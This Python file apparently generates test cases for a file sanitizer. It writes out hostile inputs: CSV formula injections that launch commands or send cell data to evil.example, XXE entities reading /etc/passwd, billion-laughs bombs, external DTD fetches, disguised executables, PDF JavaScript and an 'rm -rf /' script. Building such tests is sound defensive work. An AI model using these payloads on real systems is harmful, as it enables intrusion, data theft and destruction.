"""Text that is not what it looks like, tables that run, XML and JSON with two readings, false names."""
from case import add, ANY, OUTPUT, PAYLOAD, REFUSED
import pdf
from archives import archive, Entry, TEXT
from pdf_content import gray_jpeg

EVIL = PAYLOAD.encode()


def bidi():
    hiding = {
        "rlo": "\u202e", "lro": "\u202d", "rle": "\u202b", "lre": "\u202a", "pdf": "\u202c", "rli": "\u2067",
        "lri": "\u2066", "fsi": "\u2068", "pdi": "\u2069", "lrm": "\u200e", "rlm": "\u200f", "zwsp": "\u200b",
        "word-joiner": "\u2060", "bom-inside": "\ufeff", "tag": "\U000e0041", "interlinear": "\ufff9",
    }
    for name, c in hiding.items():
        add("text-hiding-%s.txt" % name, "text", "U+%04X in a text" % ord(c),
            ("if (admin) {%s\r\n支払先：甲社%s\r\n}\r\n" % (c, c)).encode(), [c.encode()])
    add("text-hiding-utf16.txt", "text", "an override in UTF-16", "\ufeffab\u202ecd\r\n".encode("utf-16-le"),
        ["\u202e".encode("utf-16-le"), "\u202e".encode()])
    add("text-escape-sequence.txt", "text", "terminal escape sequences", b"hello \x1b]0;" + EVIL + b"\x07\x1b[2J\r\n",
        ["\x1b", "\x07"])
    add("text-nul.txt", "text", "NUL and other controls", b"hello\0world\x08\x08\x7f.\r\n", ["\0", "\x08", "\x7f"], ANY)
    add("text-iso2022jp-escape.txt", "text", "ISO-2022-JP whose escape hides ASCII",
        b"\x1b$B<:\x1b(Btext\x1b$B\x1b(B <script>\r\n", (), ANY)
    add("text-utf7.txt", "text", "UTF-7 script", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n", (), ANY)
    # In CP932 these bytes are half-width katakana, and may stay.
    add("text-overlong.txt", "text", "overlong UTF-8", b"a\xc0\xbcscript\xc0\xbe\r\n", (), ANY)
    add("text-giant-line.txt", "bomb", "one line of 8 MiB", b"a" * (1 << 23), (), ANY)


def tables():
    formulas = {
        "equals": "=cmd|' /C calc'!A0", "plus": "+cmd|' /C calc'!A0", "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1", "dde": "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "hyperlink": "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "full-width": "＝1+1", "full-width-plus": "＋1+1",
        "full-width-at": "＠SUM(1)", "full-width-minus": "－1+cmd|x!A0", "space": " =1+1", "importxml": "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "number-then": "-1+cmd|x!A0", "quote": "'=1+1\n=2+2",
    }
    for name, f in formulas.items():
        quoted = '"' + f.replace('"', '""') + '"'
        add("csv-%s.csv" % name, "csv", "formula: " + name, ("name,value\r\nx,%s\r\ny,1\r\n" % quoted).encode(), (), ANY)
    rows = {
        "unquoted": "name,value\r\nx,=1+1\r\ny,1\r\n", "first-cell": "=1+1,b\r\nc,d\r\n",
        "semicolon": "a;b\r\n1;=1+1\r\n2;3\r\n", "tab-separated": "a\tb\r\n1\t=1+1\r\n2\t3\r\n",
        "semicolon-in-comma": "a,b\r\nx;=1+1,2\r\n", "quote-break": 'a,b\r\n"x"=1+1,2\r\n', "sep-line": "sep=;\r\na;=1+1\r\n",
        "quote-open": 'a,b\r\n1,"=1+1\r\n', "only-cr": "a,b\r=1+1,2\r", "null-between": "a,b\r\n\0=1+1,2\r\n",
        "bom": "\ufeff=1+1,b\r\nc,d\r\n", "zero-width-first": "a,b\r\n\u200b=1+1,2\r\n", "harmless-numbers": "a,b\r\n-1,+81-155-22-1111\r\n",
    }
    for name, text in rows.items():
        add("csv-%s.csv" % name, "csv", "table: " + name, text.encode(), (), ANY)
    add("csv-cp932.csv", "csv", "formula in CP932", "氏名,値\r\n山田,=1+1\r\n".encode("cp932"), (), ANY)
    add("csv-utf16.csv", "csv", "formula in UTF-16", "\ufeffa\tb\r\n1\t=1+1\r\n".encode("utf-16-le"), (), ANY)
    add("csv-giant-cell.csv", "bomb", "a cell of 4 MiB that never ends", b'a,b\r\n1,"' + b"x" * (1 << 22), (), ANY)
    add("csv-many-columns.csv", "bomb", "a million columns", b"," * 1000000 + b"\r\n", (), ANY)


def markup():
    head = '<?xml version="1.0"?>\n'
    laughs = "<!DOCTYPE r [<!ENTITY a0 'ha'>" + "".join(
        "<!ENTITY a%d '%s'>" % (i, ("&a%d;" % (i - 1)) * 10) for i in range(1, 12)) + "]>"
    rows = {
        "billion-laughs": (laughs + "<r>&a11;</r>", ["<!DOCTYPE", "<!ENTITY"]),
        "quadratic": ("<!DOCTYPE r [<!ENTITY a '%s'>]><r>%s</r>" % ("a" * 50000, "&a;" * 5000), ["<!DOCTYPE"]),
        "xxe-file": ("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>", ["<!DOCTYPE", "/etc/passwd", "root:"]),
        "xxe-parameter": ("<!DOCTYPE r [<!ENTITY %% x SYSTEM 'http://evil.example/%s'>%%x;]><r/>" % PAYLOAD, [PAYLOAD, "<!DOCTYPE"]),
        "external-dtd": ("<!DOCTYPE r SYSTEM 'http://evil.example/%s'><r/>" % PAYLOAD, [PAYLOAD, "<!DOCTYPE"]),
        "stylesheet": ("<?xml-stylesheet href='http://evil.example/%s' type='text/xsl'?><r/>" % PAYLOAD, [PAYLOAD, "<?xml-"]),
        "processing-instruction": ("<?php %s ?><r/>" % PAYLOAD, [PAYLOAD, "<?php"]),
        "xinclude": ("<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></r>", ["root:"]),
        "recursive-entity": ("<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><r>&a;</r>", ["<!DOCTYPE"]),
        "deep": ("<r>" * 100000 + "</r>" * 100000, []),
        "attributes": ("<r " + " ".join("a%d='x'" % i for i in range(100000)) + "/>", []),
        "comment": ("<r><!-- %s --></r>" % PAYLOAD, []),
        "xhtml-script": ("<r xmlns:h='http://www.w3.org/1999/xhtml'><h:script>f()</h:script></r>", ['"http://www.w3.org/1999/xhtml"']),
        "svg-script": ("<r><svg xmlns='http://www.w3.org/&#50;000/svg' onload='f()'/></r>", ['"http://www.w3.org/2000/svg"']),
        "office-behind-comment": ("<!--%s--><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' office:mimetype="
                                  "'application/vnd.oasis.opendocument.text'/>" % (" " * 2000000), ['"urn:oasis:names:tc:opendocument:xmlns:office:1.0"']),
    }
    for name, (text, must) in rows.items():
        add("xml-%s.xml" % name, "xml", "XML: " + name, (head + text + "\n").encode(), must, ANY)
    add("xml-utf16.xml", "xml", "a DTD in UTF-16", ("\ufeff<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE r [<!ENTITY x SYSTEM "
        "'file:///%s'>]><r>&x;</r>" % PAYLOAD).encode("utf-16-le"), [PAYLOAD], ANY)
    objects = {
        "duplicate-keys": '{"admin":false,"admin":true}', "proto": '{"__proto__":{"admin":true}}',
        "bom": '\ufeff{"a":1}', "deep": "[" * 100000 + "]" * 100000, "deep-objects": '{"a":' * 100000 + "1" + "}" * 100000,
        "duplicate-escaped": '{"admin":1,"\\u0061dmin":2}', "huge-number": "[" + "9" * 100000 + "]",
        "exponent": "[1e999999999]", "lone-surrogate": '["\\ud800"]', "nul": '["a\\u0000b"]', "trailing": '{"a":1} ' + PAYLOAD,
        "comment": '{"a":1/*%s*/}' % PAYLOAD, "bidi": '["\u202eabc"]', "nan": "[NaN,Infinity]",
    }
    for name, text in objects.items():
        add("json-%s.json" % name, "json", "JSON: " + name, text.encode(), [], ANY)


def disguises():
    exe = b"MZ" + b"\x90\0" + b"\0" * 56 + b"\x40\0\0\0PE\0\0" + EVIL
    page = pdf.doc(catalog="/OpenAction<</S/JavaScript/JS(%s)>>" % PAYLOAD)
    html = b"<!DOCTYPE html><html><body><script>" + EVIL + b"</script>Hello</body></html>\n"
    rows = {
        "program.pdf": (exe, REFUSED, "a program that calls itself a PDF"),
        "program.txt": (exe, REFUSED, "a program that calls itself a text"),
        "elf.jpg": (b"\x7fELF\2\1\1" + b"\0" * 64 + EVIL, REFUSED, "a Linux program that calls itself a picture"),
        "page.txt": (html, (REFUSED,) + OUTPUT, "a web page that calls itself a text"),
        "document.jpg": (page, OUTPUT, "a PDF that calls itself a picture"),
        "picture.pdf": (gray_jpeg() + EVIL, OUTPUT, "a picture that calls itself a PDF"),
        "word.zip": (archive([Entry("[Content_Types].xml", b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"),
                              Entry("word/vbaProject.bin", EVIL), Entry("word/document.xml", b"<w/>")]), REFUSED,
                     "a document with macros that calls itself an archive"),
        "script.txt": (b"#!/bin/sh\nrm -rf / # " + EVIL + b"\n", (REFUSED,) + OUTPUT, "a shell script"),
        "shortcut.txt": (b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + EVIL, REFUSED, "a shortcut that calls itself a text"),
        "link.url": (b"[InternetShortcut]\r\nURL=file://evil/" + EVIL + b"\r\n", REFUSED, "an Internet shortcut"),
        "application.hta": (b"<html><hta:application/><script>" + EVIL + b"</script></html>", (REFUSED,) + OUTPUT, "an HTML application"),
        "empty.pdf": (b"", REFUSED, "nothing"),
        "invoice.pdf.exe": (exe, REFUSED, "two endings"),
        "library.class": (b"\xca\xfe\xba\xbe\0\0\0\x34" + EVIL, REFUSED, "Java"),
        "database.csv": (b"SQLite format 3\0" + b"\0" * 84 + EVIL, REFUSED, "a database that calls itself a table"),
    }
    for name, (data, expect, what) in rows.items():
        # A script's words are text: they may stay, but not as what runs.
        must = [PAYLOAD] if name not in ("page.txt", "script.txt", "application.hta") else ["<script>"]
        add("disguise-" + name, "disguise", what, data, must if data else (), expect)


def make():
    bidi()
    tables()
    markup()
    disguises()
